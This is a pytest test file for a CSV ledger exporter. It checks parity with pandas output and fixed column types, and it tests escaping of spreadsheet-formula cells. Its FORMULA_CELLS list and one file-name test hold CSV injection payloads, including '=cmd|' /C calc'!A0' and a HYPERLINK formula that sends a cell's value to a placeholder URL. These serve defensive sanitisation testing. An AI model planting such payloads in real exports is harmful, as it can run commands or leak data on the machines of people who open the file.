"""The CSV ledger, written by pandas a batch of claims at a time, is exactly one ``to_csv`` of the
whole frame: the ledger's column types are fixed, not inferred from the batch at hand."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import pytest

from reconciler.models import Result
from reconciler.output.ledger import LEDGER_COLUMNS, ledger, ledger_csv, ledger_csv_chunks
from reconciler.pipeline import Options, reconcile

ROOT = Path(__file__).resolve().parents[1]


def pandas_csv(result: Result) -> str:
    return str(ledger(result).to_csv(index=False, lineterminator="\n"))  # the whole frame at once


@pytest.mark.parametrize("folder", ["seeds", "tests/stories/flood-toll", "tests/stories/election-count"])
def test_csv_is_what_pandas_writes(folder: str) -> None:
    result = reconcile([ROOT / folder], Options(jobs=1))
    assert ledger_csv(result) == pandas_csv(result)


def test_odd_cells_as_pandas_writes_them() -> None:
    result = reconcile([ROOT / "seeds"], Options(jobs=1))
    claims = list(result.claims[:6])
    odd = [
        dataclasses.replace(claims[0], value=5, low=None, high=float("inf"), text='say "hi", \r\nbye'),
        dataclasses.replace(claims[1], value="--09-18", low=None, high=None, sentence=" a \n b "),
        dataclasses.replace(claims[2], value=1e16, low=float("nan"), noun="", subject="x,y"),
        dataclasses.replace(claims[3], value=2.5e-7, low=3, high=4),
    ]
    for claims_now in (odd, odd[:1], odd[1:2], [odd[0], odd[2]], []):
        changed = dataclasses.replace(result, claims=tuple(claims_now))
        assert ledger_csv(changed) == pandas_csv(changed)
        assert "".join(ledger_csv_chunks(changed, batch=1)) == pandas_csv(changed)
    header, first, *_ = csv.reader(io.StringIO(pandas_csv(dataclasses.replace(result, claims=tuple(odd)))))
    assert header == LEDGER_COLUMNS
    # value 5 stays 5; an open end is blank; inf as pandas writes it
    assert (first[header.index("value")], first[header.index("low")], first[header.index("high")]) == ("5", "", "inf")


def test_column_types_are_fixed() -> None:
    result = reconcile([ROOT / "seeds"], Options(jobs=1))
    frame = ledger(result)
    assert {name: str(frame[name].dtype) for name in ("start", "end", "low", "high", "value", "text")} == {
        "start": "Int64", "end": "Int64", "low": "float64", "high": "float64", "value": "object", "text": "object"}
    empty = ledger(dataclasses.replace(result, claims=()))
    assert list(empty.columns) == LEDGER_COLUMNS and len(empty) == 0
    assert str(empty["start"].dtype) == "Int64"


@pytest.mark.parametrize("batch", [1, 7, 1000])
def test_csv_in_slices_joins_into_the_whole(batch: int) -> None:
    result = reconcile([ROOT / "tests/stories/flood-toll"], Options(jobs=1))
    pieces = list(ledger_csv_chunks(result, batch=batch))
    assert len(pieces) == max(1, -(-len(result.claims) // batch))
    assert "".join(pieces) == pandas_csv(result)


# Cells a spreadsheet would run as a formula (OWASP's CSV injection list) get a leading ';
# numbers stay numbers, negative ones included.
FORMULA_CELLS = [
    # (claim field, value given, cell in the CSV)
    ("sentence", '=HYPERLINK("https://example.invalid/?x="&A1,"open") The fund held $12.', "'=HYPERLINK("),
    ("sentence", "@SUM(A1:A9) cells were counted.", "'@SUM(A1:A9)"),
    ("sentence", "+1+1 is what the tally said.", "'+1+1"),
    ("sentence", "-2+3 is what the tally said.", "'-2+3"),
    ("text", "-12%", "'-12%"),
    ("text", "\t=1+2", "'\t=1+2"),
    ("noun", "=cmd|' /C calc'!A0", "'=cmd|"),
    ("subject", "@evil", "'@evil"),
    ("unit", "=x", "'=x"),
    ("value", "--09-17", "'--09-17"),  # a date without a year: text in the value column
    ("id", "=cmd|calc@20", "'=cmd|calc@20"),
]
NUMERIC_CELLS = [
    # (claim field, value given, cell in the CSV): negative numbers are not prefixed
    ("value", -5.0, "-5.0"),
    ("low", -6.5, "-6.5"),
    ("high", -0.25, "-0.25"),
    ("start", 3, "3"),
]


def _one_claim_csv(**changes: object) -> dict[str, str]:
    result = reconcile([ROOT / "seeds"], Options(jobs=1))
    claim = dataclasses.replace(result.claims[0], **changes)  # type: ignore[arg-type]
    changed = dataclasses.replace(result, claims=(claim,))
    assert ledger_csv(changed) == pandas_csv(changed)  # the same cells in a batch and in the frame
    header, row = list(csv.reader(io.StringIO(ledger_csv(changed), newline="")))
    return dict(zip(header, row, strict=True))


@pytest.mark.parametrize(("field", "given", "cell"), FORMULA_CELLS)
def test_formula_cells_get_a_leading_quote(field: str, given: str, cell: str) -> None:
    column = {"id": "claim_id"}.get(field, field)
    assert _one_claim_csv(**{field: given})[column].startswith(cell)


@pytest.mark.parametrize(("field", "given", "cell"), NUMERIC_CELLS)
def test_negative_numbers_stay_numbers(field: str, given: float, cell: str) -> None:
    assert _one_claim_csv(**{field: given})[field] == cell


@pytest.mark.parametrize(("given", "cell"), [("\r=1+2", "'\r=1+2"), ("\t-3", "'\t-3"), (" =1", " =1"),
                                            ("", ""), ("a=b", "a=b"), (-1, -1)])
def test_safe_cell(given: object, cell: object) -> None:
    from reconciler.output.ledger import safe_cell

    assert safe_cell(given) == cell


def test_a_file_name_that_is_a_formula(tmp_path: Path) -> None:
    (tmp_path / "=cmd|calc.txt").write_text("Ledger desk\n\nThe shed cost $7,400 to build.\n", "utf-8")
    (tmp_path / "@a.txt").write_text("Other desk\n\nThe shed cost $7,400 to build.\n", "utf-8")
    result = reconcile([tmp_path], Options(jobs=1))
    rows = list(csv.DictReader(io.StringIO(ledger_csv(result))))
    assert rows and all(not row[k].startswith(("=", "+", "-", "@")) for row in rows for k in row)
    assert {row["source"] for row in rows} == {"'=cmd|calc", "'@a"}
